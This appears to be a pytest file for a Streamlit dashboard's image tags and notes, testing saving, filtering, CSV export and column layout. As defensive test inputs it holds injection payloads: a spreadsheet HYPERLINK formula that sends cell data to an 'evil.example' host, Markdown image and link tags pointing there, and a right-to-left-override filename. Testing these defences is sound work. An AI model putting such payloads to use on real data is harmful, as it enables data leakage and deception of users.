"""Tags and notes in the dashboard, with Streamlit's AppTest on a copy of the tiny two-run store:
the explorer's section (``tags_section.tags_ui``, run by a small test app) and the Tags page."""

import csv
import io
from pathlib import Path

import pytest
from streamlit.runtime.memory_media_file_storage import MemoryMediaFileStorage
from streamlit.testing.v1 import AppTest

from training.data.index import load_or_build_index
from training.runs.tags import SUGGESTED_TAGS, TAGS_FILE, TagStore

PAGE = str(Path(__file__).resolve().parent.parent / "dashboard" / "app_pages" / "tags.py")


def _section_app():
    """The explorer's tags section alone, for the image of ``?id=``."""
    import streamlit as st

    from dashboard.readers.store import store_key
    from dashboard.sections.tags import tags_ui

    tags_ui(store_key(), int(st.query_params["id"]))


def _section(image_id: int) -> AppTest:
    at = AppTest.from_function(_section_app, default_timeout=60)
    at.query_params["id"] = str(image_id)
    at.run()
    assert not at.exception
    return at


def _entries(store):
    return load_or_build_index(store.data_root, write=False, report=lambda message: None).entries


def test_the_explorer_section_saves_tags_and_notes_and_a_restart_shows_them(dashboard_store_copy):
    store = dashboard_store_copy
    entry = _entries(store)[0]
    tags = TagStore(store.artifacts)
    at = _section(entry.id)
    chips = at.multiselect(key="explorer_tags")
    assert chips.value == [] and list(chips.options[:4]) == list(SUGGESTED_TAGS[:4])
    chips.set_value(["reflection", "  Lens   FLARE "]).run()
    assert tags.mark(entry.city, entry.stem).tags == ("lens flare", "reflection")
    assert "added reflection, lens flare" in at.success[0].value
    assert at.multiselect(key="explorer_tags").value == ["lens flare", "reflection"]

    # another tab adds a tag after this one drew its chips; this one then removes one of its own
    tags.add_tag(entry.city, entry.stem, "border")
    at.multiselect(key="explorer_tags").unselect("reflection").run()
    assert tags.mark(entry.city, entry.stem).tags == ("border", "lens flare")  # the other tab's tag is kept
    at.text_area(key="explorer_note").input("a tree labelled building").run()
    assert tags.mark(entry.city, entry.stem).note == "a tree labelled building"
    at.multiselect(key="explorer_tags").select("a;b").run()  # a bad tag: a reason, nothing written
    assert "\\'\\;\\'" in at.error[0].value and len(tags.mark(entry.city, entry.stem).tags) == 2
    at.multiselect(key="explorer_tags").select("\u202etxt.exe").run()  # an invisible character: named
    assert "U\\+202E RIGHT-TO-LEFT OVERRIDE" in at.error[0].value and "\u202e" not in at.error[0].value
    assert len(tags.mark(entry.city, entry.stem).tags) == 2
    at.text_area(key="explorer_note").input("nul\x00inside").run()
    assert "U\\+0000" in at.error[0].value and tags.mark(entry.city, entry.stem).note == "a tree labelled building"
    at.text_area(key="explorer_note").input("a tree labelled building").run()
    # a tag that is Markdown is said as typed: no image fetched, no link
    at.multiselect(key="explorer_tags").select("![x](http://evil.example/p.png)").run()
    said = at.success[0].value
    assert "added \\!\\[x\\]\\(http\\:\\/\\/evil\\.example\\/p\\.png\\)" in said and "](" not in said
    at.multiselect(key="explorer_tags").unselect("![x](http://evil.example/p.png)").run()
    assert tags.mark(entry.city, entry.stem).tags == ("border", "lens flare")

    restarted = _section(entry.id)  # a new session: everything comes from the file
    assert restarted.multiselect(key="explorer_tags").value == ["border", "lens flare"]
    assert restarted.text_area(key="explorer_note").value == "a tree labelled building"
    assert restarted.multiselect(key="explorer_tags").options[:2] == ["border", "lens flare"]  # used first
    other = _section(_entries(store)[1].id)
    assert other.multiselect(key="explorer_tags").value == [] and other.text_area(key="explorer_note").value == ""


@pytest.fixture
def downloads(monkeypatch):
    """What the page's download buttons would send: (data, mimetype, filename) of each file."""
    sent = []
    keep = MemoryMediaFileStorage.load_and_get_id

    def recording(self, path_or_data, mimetype, kind, filename=None):
        sent.append((path_or_data, mimetype, filename))
        return keep(self, path_or_data, mimetype, kind, filename)

    monkeypatch.setattr(MemoryMediaFileStorage, "load_and_get_id", recording)
    return sent


def _csv_rows(data) -> list[dict]:
    return list(csv.DictReader(io.StringIO(data.decode() if isinstance(data, bytes) else data)))


def test_the_tags_page_filters_counts_and_downloads_the_rows_shown(dashboard_store_copy, downloads):
    store = dashboard_store_copy
    first, second, third = _entries(store)[:3]
    tags = TagStore(store.artifacts)
    at = AppTest.from_file(PAGE, default_timeout=60).run()
    assert not at.exception and "No image is tagged" in at.info[0].value

    for entry, names in ((first, ["border", "reflection"]), (second, ["border"]), (third, [])):
        for name in names:
            tags.add_tag(entry.city, entry.stem, name)
    tags.set_note(third.city, third.stem, "Tree labelled as building")
    tags.add_tag("nowhere", "nowhere_000000_000000", "border")  # an image the index does not hold
    at = AppTest.from_file(PAGE, default_timeout=60).run()
    assert not at.exception
    shown = at.dataframe[0].value
    assert list(shown["id"].astype("string").fillna("")) == [str(first.id), str(second.id), str(third.id), ""]
    assert shown["open"].iloc[0] == f"explorer?id={first.id}" and shown["open"].isna().iloc[3]
    counts = at.dataframe[1].value
    assert dict(zip(counts["tag"], counts["images"])) == {"border": 3, "reflection": 1}

    at.multiselect(key="tags_page_tags").set_value(["border", "reflection"]).run()
    assert list(at.dataframe[0].value["stem"]) == [first.stem, second.stem, "nowhere_000000_000000"]
    at.radio(key="tags_page_match").set_value("all").run()
    assert list(at.dataframe[0].value["stem"]) == [first.stem]
    assert at.query_params["tag"] == ["border", "reflection"] and at.query_params["match"] == "all"
    data, mimetype, filename = downloads[-1]
    assert (mimetype, filename) == ("text/csv", "tags.csv")
    assert [(row["image_id"], row["stem"], row["tags"]) for row in _csv_rows(data)] == [
        (str(first.id), first.stem, "border; reflection")]

    # a link with the filter shows the same rows; words of the notes filter too
    linked = AppTest.from_file(PAGE, default_timeout=60)
    linked.query_params.update({"q": "TREE building"})
    linked.run()
    assert list(linked.dataframe[0].value["stem"]) == [third.stem]
    assert [row["note"] for row in _csv_rows(downloads[-1][0])] == ["Tree labelled as building"]

    # the table shows a tag and a note as typed; the CSV keeps a spreadsheet from running the note
    fourth = _entries(store)[3]
    tags.add_tag(fourth.city, fourth.stem, "[click me](http://evil.example)")
    tags.set_note(fourth.city, fourth.stem, '=HYPERLINK("http://evil.example/?"&A1,"click")')
    at = AppTest.from_file(PAGE, default_timeout=60).run()
    row = at.dataframe[0].value.set_index("stem").loc[fourth.stem]
    assert (row["tags"], row["note"]) == ("[click me](http://evil.example)", '=HYPERLINK("http://evil.example/?"&A1,"click")')
    assert not any("evil" in str(element.value) for element in [*at.markdown, *at.caption, *at.error, *at.warning])
    [saved] = [row for row in _csv_rows(downloads[-1][0]) if row["stem"] == fourth.stem]
    assert saved["note"] == '\'=HYPERLINK("http://evil.example/?"&A1,"click")'

    (Path(store.artifacts) / TAGS_FILE).write_bytes(b"damaged" * 200)  # a damaged file: said, not shown
    broken = AppTest.from_file(PAGE, default_timeout=60).run()
    assert TAGS_FILE in broken.error[0].value and str(store.artifacts) not in broken.error[0].value
    section = _section(first.id)
    assert TAGS_FILE in section.warning[0].value and not section.multiselect


def test_the_tag_picker_offers_no_select_all(dashboard_store_copy):
    """Issue 25: "Select all" put every known tag on one image in one click."""
    store = dashboard_store_copy
    at = _section(_entries(store)[0].id)
    chips = at.multiselect(key="explorer_tags")
    assert len(chips.options) > 2  # enough tags for Streamlit to offer the bulk action
    assert chips.proto.HasField("select_all") and chips.proto.select_all == 0  # 0: never shown


def test_the_tags_table_names_its_columns_at_widths_that_fit(dashboard_store_copy):
    """Issue 25: the "updated" column and the link were cut."""
    import json

    store = dashboard_store_copy
    entry = _entries(store)[0]
    TagStore(store.artifacts).add_tag(entry.city, entry.stem, "border")
    at = AppTest.from_file(PAGE, default_timeout=60).run()
    config = json.loads(at.dataframe[0].proto.columns)
    updated = config["updated"]
    assert updated["label"] == "updated (UTC)" and updated["width"] >= 8 * len("2026-12-04 05:07:29")
    assert config["open"]["width"] >= 8 * len("explorer ↗")
    assert all(config[column].get("width") for column in ("id", "city", "stem", "tags"))
